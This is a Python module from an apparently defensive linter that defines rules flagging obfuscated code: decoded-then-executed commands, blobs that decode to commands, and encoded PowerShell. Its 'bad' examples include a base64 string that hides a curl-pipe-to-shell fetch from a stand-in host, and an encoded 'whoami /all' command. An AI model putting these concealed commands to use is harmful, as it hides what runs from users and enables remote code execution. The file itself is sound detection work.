"""OB: code that hides what it does."""

from __future__ import annotations

import re
from collections.abc import Iterator

from trace2skill.lint.blobs import command_in, powershell_in
from trace2skill.lint.families.ex import of_python
from trace2skill.lint.rules import Hit, Rule
from trace2skill.lint.shellcode import shell_code
from trace2skill.lint.shellflow import runs_in
from trace2skill.lint.view import View
from trace2skill.records import FlowStep

_MESSAGE = "decodes a text and runs what comes out"
_JAVASCRIPT = re.compile(
    r"\b(?:eval|Function)\(\s{0,9}(?:atob\(|Buffer\.from\([^\n]{1,2000},\s{0,9}['\"](?:base64|hex)['\"])"
)


def decoded_then_executed(view: View) -> Iterator[Hit]:
    """Find what is decoded and then run."""
    for code in shell_code(view):
        for run in runs_in(code.text):
            if run.data.decoded:
                place = code.line + run.line - 1
                first = FlowStep(path=code.path, line=code.line + run.data.line - 1, what="decoded here")
                yield Hit(
                    code.path,
                    place,
                    _MESSAGE,
                    fix="write the command as it is",
                    evidence=run.text,
                    context=code.context,
                    prose=code.prose,
                    flow=(first, FlowStep(path=code.path, line=place, what="run here")),
                )
    yield from of_python(view, "decoded", _MESSAGE)
    for script in view.scripts("javascript"):
        for number, line in script.lines():
            if _JAVASCRIPT.search(line[:4000]):
                yield Hit(script.path, number, _MESSAGE, evidence=line, context=script.context)


def hidden_commands(view: View) -> Iterator[Hit]:
    """Find a blob that is a command once it is decoded."""
    for file in view.texts():
        for line, blob, text in command_in(file.text):
            message = f"holds a blob that decodes to a command: {' '.join(text.split())[:80]}"
            yield Hit(file.path, line, message, evidence=blob)


def powershell(view: View) -> Iterator[Hit]:
    """Find a command that PowerShell gets encoded."""
    for file in view.texts():
        for line, shown, text in powershell_in(file.text):
            message = f"hands PowerShell an encoded command: {' '.join(text.split())[:80]}"
            yield Hit(file.path, line, message, evidence=shown)


_PIPE = "Y3VybCBodHRwczovL2ZpbGVzLnp6LW5vdC1hLWhvc3QueHl6L2kuc2ggfCBzaA=="
_WIDE = "dwBoAG8AYQBtAGkAIAAvAGEAbABsACAAfAAgAG8AdQB0AC0AbgB1AGwAbAA="
RULES = (
    Rule(
        id="OB201", name="decoded-then-executed", class_="malicious", level="error",
        check=decoded_then_executed,
        why="No reader sees what runs. Honest code has no reason to hide it.",
        bad="```sh\necho ZWNobyBoaQ== | base64 -d | sh\n```\n",
        good="```sh\necho ZWNobyBoaQ== | base64 -d > note.txt\n```\n",
        hazards=("CWE-506", "CWE-95"),
    ),
    Rule(
        id="OB202", name="blob-decodes-to-command", class_="malicious", level="error", check=hidden_commands,
        why="It waits for something to decode and run it, and a reader takes it for data.",
        bad=f"Setup token: `{_PIPE}`\n",
        good="A test vector: `VGhlIHF1aWNrIGJyb3duIGZveCBqdW1wcyBvdmVyIHRoZSBkb2c=`\n",
        hazards=("CWE-506",),
    ),
    Rule(
        id="OB203", name="powershell-encoded", class_="malicious", level="error", check=powershell,
        why="The command can be read by PowerShell and not by the user.",
        bad=f"```powershell\npowershell -NoP -enc {_WIDE}\n```\n",
        good="```powershell\npowershell -Encoding utf8 -File build.ps1\n```\n",
        hazards=("CWE-506",),
    ),
)  # fmt: skip
